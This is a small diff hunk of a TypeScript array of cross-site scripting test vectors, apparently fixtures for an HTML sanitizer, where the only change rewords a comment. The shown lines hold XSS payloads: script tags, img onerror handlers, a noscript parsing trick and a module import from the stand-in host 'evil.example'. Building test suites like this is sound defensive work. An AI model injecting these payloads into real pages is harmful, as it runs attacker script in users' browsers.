@@ -55,7 +55,7 @@ const VECTORS: readonly string[] = [
   '<script>/*<p>*/alert(1)</script>',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<script type=module>import("//evil.example")</script>',
-  // What runs when something happens
+  // Runs on an event
   '<img src=x onerror=alert(1)>',
   '<img/src=x/onerror=alert(1)>',
   '<img src=x onerror="alert(1)"',
